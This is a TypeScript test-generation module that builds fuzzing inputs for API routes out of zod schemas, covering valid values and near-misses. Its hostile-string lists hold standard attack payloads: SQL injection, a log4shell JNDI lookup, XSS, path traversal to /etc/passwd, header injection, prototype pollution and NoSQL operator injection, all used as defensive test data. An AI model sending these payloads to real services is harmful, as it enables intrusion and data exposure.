/**
 * fast-check arbitraries read off a route's own zod/mini schema (`schema._zod.def`): values the
 * schema accepts, and near-misses of them — wrong types, missing required fields, unknown and
 * prototype-polluting keys, huge and hostile strings, deep nesting, numbers at and beyond their
 * bounds. Near-misses are JSON text, so they can carry what a JS object cannot (a `__proto__`
 * key, a duplicate key, 1e999, a lone surrogate).
 *
 * Checks a generator cannot invert (a superRefine that validates a CIDR, a port range, a
 * datetime in the future) get their valid values from FIELD_HINTS, by field name; everything
 * else comes from the schema.
 */
import fc from "fast-check";
import { type CheckDef, checksOf, defOf, isOptional, type Schema, unwrap } from "./route-catalogue.ts";

type Arb = fc.Arbitrary<unknown>;

const future = () => new Date(Date.now() + 86_400_000 * 30).toISOString();

/** Valid values for fields whose checks are custom refinements, by field name (`name[]`: an element). */
const FIELD_HINTS: Record<string, (s: Schema) => Arb> = {
  ip_address: () => fc.constantFrom("203.0.113.0/24", "198.51.100.7", "2001:db8::/48", "192.0.2.10"),
  source: () => fc.constantFrom("10.0.0.0/8", "203.0.113.0/24", "0.0.0.0/0"),
  destination: () => fc.constantFrom("192.168.1.0/24", "0.0.0.0/0", "198.51.100.7"),
  listen_address: () => fc.constantFrom("0.0.0.0", "192.168.1.1", "::"),
  // A port number, or (rules) a port or range as text or number.
  port: (s) =>
    defOf(unwrap(s)).type === "number"
      ? fc.integer({ min: 1, max: 65535 })
      : fc.oneof(fc.integer({ min: 1, max: 65535 }), fc.constantFrom("22", "8000-8080", "443")),
  vpn_port: () => fc.integer({ min: 1, max: 65535 }),
  priority: () => fc.integer({ min: 1, max: 10000 }),
  interface: () => fc.constantFrom("eth0", "wlan0", "br-lan"),
  log_prefix: () => fc.constantFrom("WARDEN ", "fw-drop: "),
  "ip_restrictions[]": () => fc.constantFrom("203.0.113.0/24", "198.51.100.7", "2001:db8::1"),
  // Permissions are checked against the catalogue by the domain, not by the schema (any string ≤ 70).
  "permissions[]": () => fc.constantFrom("users:read", "audit:read", "firewall:*", "devices:read", "ssh:write"),
  "allowed_directories[]": () => fc.constantFrom("/var/log", "/home/ops", "/opt/app"),
  expires: () => fc.constant(future()),
  start_date: () => fc.constant(new Date(Date.now() - 86_400_000).toISOString().slice(0, 10)),
  end_date: () => fc.constant(new Date().toISOString().slice(0, 10)),
  email: () => fc.stringMatching(/^[a-z]{1,12}$/).map((n) => `${n || "x"}@example.com`),
  // Never a host that answers: a generated webhook must not reach the internet.
  url: () => fc.constantFrom("https://hooks.invalid/events", "https://203.0.113.9.invalid/hook"),
};

const bound = (c: CheckDef): number => Number(c.value);

interface NumberRange {
  min: number;
  max: number;
  integer: boolean;
}

export function numberRange(s: Schema): NumberRange {
  const d = defOf(s);
  let min = -1e9;
  let max = 1e9;
  let integer = d.format === "safeint" || d.format === "int32" || d.format === "uint32";
  for (const c of checksOf(s)) {
    if (c.check === "greater_than") min = Math.max(min, c.inclusive ? bound(c) : bound(c) + (integer ? 1 : 1e-6));
    if (c.check === "less_than") max = Math.min(max, c.inclusive ? bound(c) : bound(c) - (integer ? 1 : 1e-6));
    if (c.check === "number_format") integer = true;
  }
  return { min, max, integer };
}

interface StringRange {
  min: number;
  max: number;
  pattern?: RegExp;
  format?: string;
}

function stringRange(s: Schema): StringRange {
  const d = defOf(s);
  const out: StringRange = { min: 0, max: Number.POSITIVE_INFINITY, format: d.format };
  for (const c of checksOf(s)) {
    if (c.check === "min_length" && c.minimum !== undefined) out.min = Math.max(out.min, c.minimum);
    if (c.check === "max_length" && c.maximum !== undefined) out.max = Math.min(out.max, c.maximum);
    if (c.check === "length_equals" && c.length !== undefined) out.min = out.max = c.length;
    if (c.check === "string_format" && c.format === "regex" && c.pattern) out.pattern = c.pattern;
  }
  if (d.pattern && !out.pattern && d.format === "regex") out.pattern = d.pattern;
  return out;
}

const matchers = new Map<string, fc.Arbitrary<string>>();

function matching(pattern: RegExp): fc.Arbitrary<string> {
  const key = `${pattern.source}/${pattern.flags}`;
  let arb = matchers.get(key);
  if (!arb) {
    arb = /\\[pP]\{/.test(pattern.source)
      ? // A Unicode property class (\P{Cc}: "no control characters") costs fast-check seconds to
        // compile into an arbitrary: draw graphemes and keep the ones the pattern accepts instead.
        fc.string({ unit: "grapheme", maxLength: 24 }).filter((v) => pattern.test(v))
      : // fast-check reads d, g, m, s and u only; without `i` the language is a subset of the pattern's.
        fc.stringMatching(new RegExp(pattern.source, pattern.flags.replace(/[^dgmsu]/g, "")));
    matchers.set(key, arb);
  }
  return arb;
}

function stringArb(s: Schema): Arb {
  const r = stringRange(s);
  const cap = Math.min(r.max, Math.max(r.min, 24));
  if (r.format === "email") return FIELD_HINTS.email?.(s) ?? fc.constant("someone@example.com");
  if (r.format === "datetime") return fc.constant(future());
  if (r.pattern) {
    return matching(r.pattern).map((v) => {
      if (v.length > r.max) return v.slice(0, r.max);
      return v.length >= r.min ? v : v.padEnd(r.min, v.at(-1) ?? "a");
    });
  }
  return fc.string({ minLength: r.min, maxLength: cap, unit: "grapheme-ascii" }).map((v) => {
    // A trimmed field with a minimum length: leading/trailing blanks would be trimmed away.
    const t = v.trim();
    return t.length >= r.min ? t : t.padEnd(r.min, "x");
  });
}

function numberArb(s: Schema): fc.Arbitrary<number> {
  const r = numberRange(s);
  if (r.integer) return fc.integer({ min: Math.ceil(r.min), max: Math.floor(r.max) });
  return fc.double({ min: r.min, max: r.max, noNaN: true, noDefaultInfinity: true });
}

export type Mode = "json" | "query";

/** Values to use for some fields, by field name, ahead of the schema (e.g. ids of objects that exist). */
export type Overrides = Record<string, Arb>;

/**
 * Values the schema accepts (as far as its definition can tell): in `query` mode every scalar is a
 * string, as API Gateway hands query strings and path parameters over.
 */
export function validArbitrary(schema: Schema, mode: Mode = "json", name = "", overrides: Overrides = {}): Arb {
  const d = defOf(schema);
  const wrapper = ["object", "optional", "nullable", "default", "prefault", "array"].includes(d.type);
  const given = overrides[name];
  if (given && !wrapper) return asMode(given, mode);
  const hint = FIELD_HINTS[name];
  if (hint && !wrapper) return asMode(hint(schema), mode);
  const inner = (s: Schema, n = name) => validArbitrary(s, mode, n, overrides);
  switch (d.type) {
    case "string":
      return stringArb(schema);
    case "number":
    case "int":
      return asMode(numberArb(schema), mode);
    case "bigint":
      return asMode(fc.bigInt({ min: 0n, max: 1000n }), mode);
    case "boolean":
      return asMode(fc.boolean(), mode);
    case "enum":
      return fc.constantFrom(...Object.values(d.entries ?? { x: "x" }));
    case "literal":
      return fc.constantFrom(...(d.values ?? [null]));
    case "null":
      return fc.constant(null);
    case "unknown":
    case "any":
      return fc.jsonValue({ maxDepth: 2 });
    case "optional":
    case "default":
    case "prefault":
    case "readonly":
    case "catch":
    case "nonoptional":
      return d.innerType ? inner(d.innerType) : fc.constant(undefined);
    case "nullable":
      return d.innerType
        ? fc.oneof({ weight: 4, arbitrary: inner(d.innerType) }, fc.constant(null))
        : fc.constant(null);
    case "array": {
      const checks = checksOf(schema);
      const min = checks.find((c) => c.check === "min_length")?.minimum ?? 0;
      const max = Math.min(checks.find((c) => c.check === "max_length")?.maximum ?? 4, Math.max(min, 4));
      return d.element ? fc.array(inner(d.element, `${name}[]`), { minLength: min, maxLength: max }) : fc.constant([]);
    }
    case "object": {
      const shape = d.shape ?? {};
      const model: Record<string, Arb> = {};
      const required: string[] = [];
      for (const [k, v] of Object.entries(shape)) {
        model[k] = inner(v, k);
        if (!isOptional(v)) required.push(k);
      }
      return fc.record(model, { requiredKeys: required });
    }
    case "union":
      return fc.oneof(...(d.options ?? []).map((o) => inner(o)));
    case "pipe": {
      const out = d.out ? defOf(d.out) : undefined;
      const input = d.in ? defOf(unwrap(d.in)) : undefined;
      // A string→boolean codec (z.stringbool): the strings it reads.
      if (out?.type === "boolean" && input?.type === "string") {
        return fc.constantFrom("true", "false", "1", "0", "yes", "no");
      }
      // Upper-casing into an enum, and the like: the enum's own values pass the transform unchanged.
      if (d.out && out && out.type !== "transform") return inner(d.out);
      return d.in ? inner(d.in) : fc.constant(undefined);
    }
    default:
      return fc.constant(undefined);
  }
}

function asMode<T>(arb: fc.Arbitrary<T>, mode: Mode): Arb {
  return mode === "query" ? arb.map((v) => String(v)) : arb;
}

// ---------------------------------------------------------------------------------------------
// Near-misses

/** Strings no field should choke on: control and bidi characters, lone surrogates, key and query syntax. */
export const HOSTILE_STRINGS: readonly string[] = [
  "\u0000",
  "a\u0000b",
  "\u202Eevil\u202C",
  "\uD800",
  "\uDFFF\uD800",
  "\uFEFF",
  "𝕬𝖉𝖒𝖎𝖓",
  "e\u0301\u0301\u0301",
  "' OR '1'='1' --",
  '"; DROP TABLE users; --',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell lookup string, sent literally.
  "${jndi:ldap://203.0.113.1/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "<script>alert(1)</script>",
  "%00%0d%0aX-Injected: 1",
  "\r\nX-Injected: 1",
  "T#other-tenant#USER#0000000001",
  "G#LOGIN#admin",
  "*",
  "users:*",
  "__proto__",
  "constructor",
  " ",
  "",
];

const BAD_VALUES: readonly string[] = [
  "null",
  "true",
  "0",
  "-1",
  "1e999",
  "-1e999",
  "9007199254740993",
  "0.5",
  '""',
  '"1"',
  "[]",
  "{}",
  '{"$gt":""}',
  '["a",1,null]',
];

/** JSON text with `value` at `path` (keys only), so the raw text can carry what JSON.stringify cannot. */
function withRaw(root: unknown, path: string[], raw: string): string {
  const marker = `@@RAW${Math.random().toString(36).slice(2)}@@`;
  const copy = structuredClone(root ?? {}) as Record<string, unknown>;
  let cur: Record<string, unknown> = copy;
  for (const [i, k] of path.entries()) {
    if (i === path.length - 1) cur[k] = marker;
    else {
      const next = cur[k];
      cur[k] = next && typeof next === "object" && !Array.isArray(next) ? next : {};
      cur = cur[k] as Record<string, unknown>;
    }
  }
  return JSON.stringify(copy).replace(JSON.stringify(marker), raw);
}

interface FieldInfo {
  path: string[];
  schema: Schema;
  required: boolean;
}

/** Every field of an object schema, nested objects included (not array elements). */
export function fieldPaths(schema: Schema, prefix: string[] = []): FieldInfo[] {
  const d = defOf(unwrap(schema));
  if (d.type !== "object") return [];
  const out: FieldInfo[] = [];
  for (const [k, v] of Object.entries(d.shape ?? {})) {
    const path = [...prefix, k];
    out.push({ path, schema: v, required: !isOptional(v) });
    out.push(...fieldPaths(v, path));
  }
  return out;
}

const pick = <T>(xs: readonly T[], n: number): T | undefined => (xs.length ? xs[Math.abs(n) % xs.length] : undefined);

function deep(depth: number, kind: "array" | "object"): string {
  return kind === "array"
    ? `${"[".repeat(depth)}${"]".repeat(depth)}`
    : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
}

/** Numbers at, just beyond and far beyond a number field's bounds, as JSON text. */
function boundaryNumbers(s: Schema): string[] {
  const r = numberRange(unwrap(s));
  const step = r.integer ? 1 : 0.001;
  return [r.min, r.max, r.min - step, r.max + step, r.integer ? r.min + 0.5 : Number.NaN, -0, 2 ** 53 + 2]
    .filter((n) => Number.isFinite(n))
    .map((n) => (Object.is(n, -0) ? "-0" : String(n)))
    .concat(["1e999", "-1e999", "1e-400"]);
}

type Mutator = (valid: unknown, n: number, fields: FieldInfo[]) => { label: string; text: string };

const MUTATORS: Mutator[] = [
  function wrongType(v, n, fields) {
    const f = pick(fields, n);
    const bad = pick(BAD_VALUES, n >> 3) ?? "null";
    if (!f) return { label: `wrong top-level value ${bad}`, text: bad };
    return { label: `wrong type at ${f.path.join(".")}: ${bad}`, text: withRaw(v, f.path, bad) };
  },
  function missingRequired(v, n, fields) {
    const f = pick(
      fields.filter((x) => x.required),
      n,
    );
    if (!f || !v || typeof v !== "object") return { label: "empty object", text: "{}" };
    const copy = structuredClone(v) as Record<string, unknown>;
    let cur: Record<string, unknown> = copy;
    for (const k of f.path.slice(0, -1)) cur = (cur[k] ?? {}) as Record<string, unknown>;
    delete cur[f.path.at(-1) ?? ""];
    return { label: `missing ${f.path.join(".")}`, text: JSON.stringify(copy) };
  },
  function extraField(v, n) {
    const extra = pick(
      [
        ['"tenant_id"', '"other-tenant"'],
        ['"role"', '"admin"'],
        ['"permissions"', '["*"]'],
        ['"version"', "0"],
        ['"is_admin"', "true"],
        ['"__proto__"', '{"isAdmin":true,"permissions":["*"]}'],
        ['"constructor"', '{"prototype":{"isAdmin":true}}'],
        ['"prototype"', '{"polluted":1}'],
      ],
      n,
    ) ?? ['"x"', "1"];
    const body = JSON.stringify(v ?? {});
    const text =
      body.startsWith("{") && body !== "{}" ? `{${extra[0]}:${extra[1]},${body.slice(1)}` : `{${extra[0]}:${extra[1]}}`;
    return { label: `extra field ${extra[0]}`, text };
  },
  function hugeString(v, n, fields) {
    const size = pick([10_000, 100_000, 1_000_000], n) ?? 10_000;
    const unit = pick(["A", "\u{1F600}", "\u0000", "%", "\\"], n >> 2) ?? "A";
    const f = pick(
      fields.filter((x) => defOf(unwrap(x.schema)).type !== "object"),
      n >> 4,
    );
    const raw = JSON.stringify(unit.repeat(Math.ceil(size / unit.length)));
    return {
      label: `huge string (${size} × ${JSON.stringify(unit)}) at ${f?.path.join(".") ?? "x"}`,
      text: withRaw(v, f?.path ?? ["x"], raw),
    };
  },
  function deepNesting(v, n, fields) {
    const depth = pick([64, 2_000, 20_000], n) ?? 64;
    const kind = n % 2 === 0 ? "array" : "object";
    const f = pick(fields, n >> 3);
    return {
      label: `${kind} nested ${depth} deep at ${f?.path.join(".") ?? "(root)"}`,
      text: f ? withRaw(v, f.path, deep(depth, kind)) : deep(depth, kind),
    };
  },
  function hostileString(v, n, fields) {
    const s = pick(HOSTILE_STRINGS, n) ?? "\u0000";
    const f = pick(fields, n >> 5);
    return {
      label: `hostile string ${JSON.stringify(s)} at ${f?.path.join(".") ?? "x"}`,
      text: withRaw(v, f?.path ?? ["x"], JSON.stringify(s)),
    };
  },
  function boundaryNumber(v, n, fields) {
    const numeric = fields.filter((x) => ["number", "int"].includes(defOf(unwrap(x.schema)).type));
    const f = pick(numeric.length ? numeric : fields, n);
    if (!f) return { label: "number as body", text: "1e999" };
    const raw = pick(boundaryNumbers(f.schema), n >> 3) ?? "1e999";
    return { label: `number ${raw} at ${f.path.join(".")}`, text: withRaw(v, f.path, raw) };
  },
  function duplicateKey(v, n, fields) {
    const f = pick(
      fields.filter((x) => x.path.length === 1),
      n,
    );
    const body = JSON.stringify(v ?? {});
    if (!f || !body.startsWith("{") || body === "{}") return { label: "duplicate key x", text: '{"x":1,"x":2}' };
    return { label: `duplicate key ${f.path[0]}`, text: `{${JSON.stringify(f.path[0])}:{"$ne":null},${body.slice(1)}` };
  },
  function notJson(_v, n) {
    const text =
      pick(["", "{", '{"a":', "[", "nul", "\uFEFF{}", "{'a':1}", '{"a":1,}', "/*x*/{}", "\u0000", "{}{}", "1 2"], n) ??
      "";
    return { label: `not JSON: ${JSON.stringify(text)}`, text };
  },
];

export interface BodyCase {
  label: string;
  /** Raw JSON text (or not-quite-JSON). */
  text: string;
  /** Whether the schema accepts it (a valid case, or a near-miss the schema happens to accept). */
  valid: boolean;
}

/** Bodies for a route: valid ones (one in three) and near-misses of valid ones, as raw text. */
export function bodyCases(schema: Schema, overrides: Overrides = {}): fc.Arbitrary<BodyCase> {
  const valid = validArbitrary(schema, "json", "", overrides);
  const fields = fieldPaths(schema);
  const ok = (text: string) => {
    try {
      return (schema as unknown as { safeParse(v: unknown): { success: boolean } }).safeParse(
        text === "" ? undefined : JSON.parse(text),
      ).success;
    } catch {
      return false;
    }
  };
  const good = valid.map((v) => {
    const text = v === undefined ? "" : JSON.stringify(v);
    return { label: "valid", text, valid: ok(text) };
  });
  const near = fc.tuple(valid, fc.nat(), fc.nat({ max: MUTATORS.length - 1 })).map(([v, n, m]) => {
    const mutated = (MUTATORS[m] ?? MUTATORS[0])?.(v, n, fields) ?? { label: "?", text: "{}" };
    return { ...mutated, valid: ok(mutated.text) };
  });
  return fc.oneof({ weight: 1, arbitrary: good }, { weight: 2, arbitrary: near });
}

export interface QueryCase {
  label: string;
  query: Record<string, string>;
  valid: boolean;
}

/** Query strings for a route: valid ones and hostile ones (out of range, wrong type, unknown and polluting keys). */
export function queryCases(schema: Schema | undefined, overrides: Overrides = {}): fc.Arbitrary<QueryCase> {
  // A query string is text: a parameter the schema parses from JSON (a pipe whose output is an
  // object, e.g. cloudsentinel's `filters`) is generated as its output and travels as its JSON.
  const asText = (q: Record<string, unknown>): Record<string, string> =>
    Object.fromEntries(Object.entries(q).map(([k, v]) => [k, typeof v === "string" ? v : JSON.stringify(v)]));
  const valid: fc.Arbitrary<Record<string, string>> = schema
    ? (validArbitrary(schema, "query", "", overrides) as fc.Arbitrary<Record<string, unknown>>).map(asText)
    : fc.constant({});
  const fields = schema ? Object.keys(defOf(unwrap(schema)).shape ?? {}) : [];
  const ok = (q: Record<string, string>) =>
    !schema || (schema as unknown as { safeParse(v: unknown): { success: boolean } }).safeParse(q).success;
  const hostile = fc.tuple(valid, fc.nat(), fc.nat({ max: 5 })).map(([q, n, m]) => {
    const copy: Record<string, string> = { ...q };
    const field = pick(fields, n) ?? "x";
    let label: string;
    switch (m) {
      case 0: {
        const s = pick(HOSTILE_STRINGS, n >> 3) ?? "";
        copy[field] = s;
        label = `hostile ${field}=${JSON.stringify(s)}`;
        break;
      }
      case 1: {
        const s =
          pick(["-1", "0", "1e999", "NaN", "Infinity", "9007199254740993", "0x10", "1.5", "99999999999"], n >> 3) ??
          "-1";
        copy[field] = s;
        label = `${field}=${s}`;
        break;
      }
      case 2:
        copy[field] = "A".repeat(pick([1_000, 100_000], n >> 3) ?? 1000);
        label = `huge ${field}`;
        break;
      case 3: {
        const key = pick(["__proto__", "constructor", "tenant_id", "prototype", "a[b]", ""], n >> 3) ?? "x";
        Object.defineProperty(copy, key, { value: "1", enumerable: true, writable: true, configurable: true });
        label = `unknown key ${JSON.stringify(key)}`;
        break;
      }
      case 4:
        copy[field] = `${copy[field] ?? "1"},${copy[field] ?? "1"}`;
        label = `repeated ${field} (API Gateway joins repeats with commas)`;
        break;
      default:
        copy[field] = "%E0%A4%A";
        label = `percent garbage in ${field}`;
    }
    return { label, query: copy, valid: ok(copy) };
  });
  return fc.oneof(
    { weight: 1, arbitrary: valid.map((q) => ({ label: "valid", query: q, valid: ok(q) })) },
    { weight: 2, arbitrary: hostile },
  );
}

/** Path parameter values: valid ones from the schema and garbage. */
export function pathCases(
  schema: Schema | undefined,
  params: string[],
  overrides: Overrides = {},
): fc.Arbitrary<{ label: string; params: Record<string, string> }> {
  const valid: fc.Arbitrary<Record<string, string>> = schema
    ? (validArbitrary(schema, "query", "", overrides) as fc.Arbitrary<Record<string, string>>)
    : fc.constant(Object.fromEntries(params.map((p) => [p, "1"])));
  const garbage = fc.constantFrom(
    "0",
    "-1",
    "1.5",
    "1e3",
    "99999999999999999999",
    "abc",
    "\u0000",
    "../1",
    " 1",
    "１",
    "1;DROP",
    "%",
    "A".repeat(10_000),
    "\uD800",
  );
  return fc.oneof(
    valid.map((p) => ({ label: "valid", params: p })),
    fc.tuple(garbage, fc.nat()).map(([g, n]) => {
      const name = pick(params, n) ?? "id";
      return {
        label: `${name}=${JSON.stringify(g.slice(0, 20))}`,
        params: { ...Object.fromEntries(params.map((p) => [p, "1"])), [name]: g },
      };
    }),
  );
}
